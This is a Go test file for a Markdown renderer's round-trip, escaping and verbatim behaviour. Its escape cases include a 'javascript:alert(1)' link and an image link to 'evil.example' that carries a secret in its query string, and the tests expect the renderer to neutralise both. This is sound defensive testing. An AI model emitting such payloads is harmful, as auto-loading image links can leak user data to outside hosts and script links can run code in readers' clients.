package markdown_test

import (
	"strings"
	"testing"

	"parley/progressive/markdown"
)

// words is s without what we read otherwise than we write it: bullets before boxes, and backslashes in formulas.
func words(s string) string {
	return strings.NewReplacer("•", "", "\\", "").Replace(squeezed(s))
}

// What Light writes is Markdown: reading it again shows the same, but in a few documents.
func TestLightReadsAsItWas(t *testing.T) {
	other := 0
	for seed := range uint64(documents) {
		for _, p := range markdown.Render(markdown.Parse(generate(seed)), markdown.Light(), markdown.Limits{}) {
			again := markdown.Render(markdown.Parse(p.Text), markdown.Light(), markdown.Limits{})
			var s string
			for _, a := range again {
				s += a.Plain
			}
			if words(s) != words(p.Plain) {
				if other++; other < 16 {
					a, b := []rune(words(s)), []rune(words(p.Plain))
					i := 0
					for i < len(a) && i < len(b) && a[i] == b[i] {
						i++
					}
					t.Logf("seed %d: %q, want %q", seed, string(a[max(0, i-30):min(len(a), i+30)]), string(b[max(0, i-30):min(len(b), i+30)]))
				}
			}
		}
	}
	if other > documents/50 { // what reads otherwise: lists that go on after code, and &amp; as words
		t.Errorf("%d of %d read otherwise", other, documents)
	}
}

// Characters are escaped where they would become markup, and nowhere else (TR-10).
func TestLightEscapes(t *testing.T) {
	for in, want := range map[string]string{
		`\*no\* 2 * 3`:                        `\*no\* 2 * 3`,
		"snake_case_name and \\_x\\_":         `snake_case_name and \_x\_`,
		"a - b, c+d, #tag (1.) e > f":         "a - b, c+d, #tag (1.) e > f",
		"\\# x\n\\- y\n\\> z\n1\\. w":         "\\# x\n\\- y\n\\> z\n1\\. w",
		"1990. x":                             "1990. x",
		"a ~ b ~~ c || d |":                   "a ~ b \\~\\~ c \\|\\| d |",
		"<think>\nhm\n</think>":               "<think>\nhm\n</think>",
		"`` a`b ``":                           "`` a`b ``",
		"````\n```\n````":                     "```\n`\u200b`\u200b`\n```",
		"```a b\"c\nx\n```":                   "```a\nx\n```",
		"**a***b*":                            "**a**\u200b*b*",
		"[https://a.org](https://a.org)":      "https://a.org",
		"[a](https://a.org/x(y))":             "[a](https://a.org/x%28y%29)",
		"[x](javascript:alert(1))":            "x (javascript:alert(1))",
		"![](https://evil.example/?q=secret)": "https://evil.example/?q=secret",
		"#### Small":                          "**Small**",
	} {
		parts := markdown.Render(markdown.Parse(in), markdown.Light(), markdown.Limits{})
		if len(parts) != 1 || parts[0].Text != want {
			t.Errorf("%q is written %q, want %q", in, parts, want)
		}
	}
}

// What is shown as it was written reads so in every dialect, within limits.
func TestVerbatimReadsAsWritten(t *testing.T) {
	l := markdown.Limits{Length: 64, Raw: 512, Entities: 40}
	for _, text := range []string{"***", "- - -", "#", "```\n```", "~~~", ">", "||||", "[]()", "$$", "* * *\n\n* * *", strings.Repeat("**", 200)} {
		for _, d := range dialects() {
			var read strings.Builder
			for _, p := range markdown.NewRenderer(d.d, l).Verbatim(text) {
				d.judge(t, p, l)
				read.WriteString(p.Plain)
				if d.name != "light" {
					continue
				}
				again := markdown.Render(markdown.Parse(p.Text), markdown.Plain(), markdown.Limits{})
				if len(again) != 1 || strings.TrimSpace(again[0].Plain) != strings.TrimSpace(p.Plain) {
					t.Errorf("%q is written %q, which reads %q", text, p.Text, again)
				}
			}
			if squeezed(read.String()) != squeezed(text) {
				t.Errorf("%s: %q reads %q", d.name, text, read.String())
			}
		}
	}
}
